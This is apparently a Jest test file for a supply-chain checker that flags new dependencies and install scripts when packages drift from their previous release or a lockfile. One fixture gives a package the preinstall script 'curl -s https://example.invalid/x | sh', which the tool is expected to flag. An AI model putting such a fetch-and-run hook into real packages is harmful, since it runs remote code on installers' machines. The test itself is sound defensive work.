import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { diffSurfaces, surfaceOf } from '../src/drift/package-surface.js'
import { tempDir, writeTree } from './helpers/fs.js'
import {
  isolatedNpmEnv,
  publishPackage,
  startRegistry,
  type LocalRegistry,
} from './helpers/registry.js'
import { runCli } from './helpers/run.js'
import { npmTgz } from './helpers/tar.js'

// Drift beyond file lists: dependencies and install scripts, against the previous release of
// each package of a scoped monorepo on a real registry (127.0.0.1), and in the lockfile.

const manifest = (name: string, version: string, more: object = {}) =>
  JSON.stringify({ name, version, main: 'index.js', ...more })

let registry: LocalRegistry
let dir: string
let env: Record<string, string>

beforeAll(async () => {
  registry = await startRegistry()
  const publish = (name: string, version: string, more: object = {}) =>
    publishPackage(registry, {
      name,
      version,
      files: { 'package.json': manifest(name, version, more) },
    })
  await publish('@acme/core', '1.0.0', { dependencies: { lodash: '^4.17.0' } })
  await publish('@acme/core', '1.1.0', {
    dependencies: { lodash: '^4.17.0', 'left-pad': '^1.3.0' },
    scripts: { test: 'jest', prepublishOnly: 'npm test' },
  })
  await publish('@acme/utils', '1.0.0', { peerDependencies: { react: '>=18' } })
  dir = await tempDir()
  await writeTree(dir, {
    '.npmrc': `registry=${registry.url}\n`,
    'core-1.2.0.tgz': npmTgz({
      'package.json': manifest('@acme/core', '1.2.0', {
        dependencies: { lodash: '^5.0.0', chalk: '^5.3.0' },
        // test scripts change freely; an install script is what a team must see
        scripts: { test: 'vitest', postinstall: 'node ./setup.js' },
      }),
      'index.js': 'module.exports = "1.1.0"\n',
    }),
    'utils-1.0.1.tgz': npmTgz({
      'package.json': manifest('@acme/utils', '1.0.1', { peerDependencies: { react: '>=18' } }),
      'index.js': 'module.exports = "1.0.0"\n',
    }),
  })
  env = await isolatedNpmEnv({ PACKGUARD_CACHE_DIR: await tempDir() })
}, 120_000)

afterAll(async () => registry?.stop())

const surfaceFindings = (stdout: string) =>
  JSON.parse(stdout)
    .findings.filter((f: { rule: string }) => /^drift\/(dependency|script)-/.test(f.rule))
    .map((f: { artifact: string; rule: string; severity: string; message: string }) =>
      [f.artifact, f.rule, f.severity, f.message].join(' | '),
    )
    .sort()

describe('against the previous release of each package of a scoped monorepo', () => {
  test('a new postinstall fails the release; dependency changes are reported by their weight', () => {
    const r = runCli(
      [
        'check',
        'core-1.2.0.tgz',
        'utils-1.0.1.tgz',
        '--baseline',
        'npm:previous',
        '--format',
        'json',
      ],
      { cwd: dir, env },
    )
    expect(r.stderr).toBe('')
    expect(
      JSON.parse(r.stdout).artifacts.map((a: { comparedWith: string[] }) => a.comparedWith),
    ).toEqual([['@acme/core@1.1.0'], ['@acme/utils@1.0.0']])
    expect(surfaceFindings(r.stdout)).toEqual([
      'core-1.2.0.tgz | drift/dependency-added | warning | dependencies.chalk is new ("^5.3.0"): it is not in @acme/core@1.1.0',
      'core-1.2.0.tgz | drift/dependency-changed | notice | dependencies.lodash is "^5.0.0", "^4.17.0" in @acme/core@1.1.0',
      'core-1.2.0.tgz | drift/dependency-removed | notice | dependencies.left-pad ("^1.3.0" in @acme/core@1.1.0) is gone',
      'core-1.2.0.tgz | drift/script-added | error | the postinstall script is new ("node ./setup.js"): it is not in @acme/core@1.1.0',
    ])
    expect(r.status).toBe(1)
  })
})

describe('the lockfile records them', () => {
  test('snapshot writes the package surface; a later install script is drift from it', async () => {
    const snap = runCli(['snapshot', 'utils-1.0.1.tgz', '--output', 'utils.lock.json'], {
      cwd: dir,
    })
    expect(snap.status).toBe(0)
    const lock = JSON.parse(await readFile(join(dir, 'utils.lock.json'), 'utf8'))
    expect(lock.package).toEqual({ peerDependencies: { react: '>=18' } })
    await writeTree(dir, {
      'utils-1.0.2.tgz': npmTgz({
        'package.json': manifest('@acme/utils', '1.0.2', {
          peerDependencies: { react: '>=18' },
          scripts: { preinstall: 'curl -s https://example.invalid/x | sh' },
        }),
        'index.js': 'module.exports = "1.0.0"\n',
      }),
    })
    const r = runCli(
      ['check', 'utils-1.0.2.tgz', '--lockfile', 'utils.lock.json', '--format', 'json'],
      {
        cwd: dir,
      },
    )
    expect(surfaceFindings(r.stdout)).toEqual([
      'utils-1.0.2.tgz | drift/script-added | error | the preinstall script is new ("curl -s https://example.invalid/x | sh"): it is not in the lockfile utils.lock.json',
    ])
    expect(JSON.parse(r.stdout).artifacts[0].lockfile.changed).toBe(true)
  })
})

describe('surfaceOf and diffSurfaces', () => {
  test('reads the four dependency fields and only install-time scripts', () => {
    expect(
      surfaceOf(
        JSON.stringify({
          dependencies: { b: '1', a: '2', bad: 3 },
          optionalDependencies: { fsevents: '*' },
          bundledDependencies: ['a'],
          scripts: { build: 'tsc', install: 'node-gyp rebuild', prepare: 'husky' },
        }),
      ),
    ).toEqual({
      dependencies: { a: '2', b: '1' },
      optionalDependencies: { fsevents: '*' },
      bundleDependencies: { a: '*' },
      scripts: { install: 'node-gyp rebuild', prepare: 'husky' },
    })
    expect(
      surfaceOf(JSON.stringify({ dependencies: { a: '1' }, bundleDependencies: true })),
    ).toEqual({
      dependencies: { a: '1' },
      bundleDependencies: { a: '*' },
    })
    expect(surfaceOf('not json')).toBeUndefined()
    expect(surfaceOf('[]')).toBeUndefined()
  })

  test('the same surface has no change, whatever the key order', () => {
    const a = surfaceOf('{"dependencies": {"x": "1", "y": "2"}}')!
    const b = surfaceOf('{"dependencies": {"y": "2", "x": "1"}}')!
    expect(diffSurfaces(a, b)).toEqual([])
  })
})
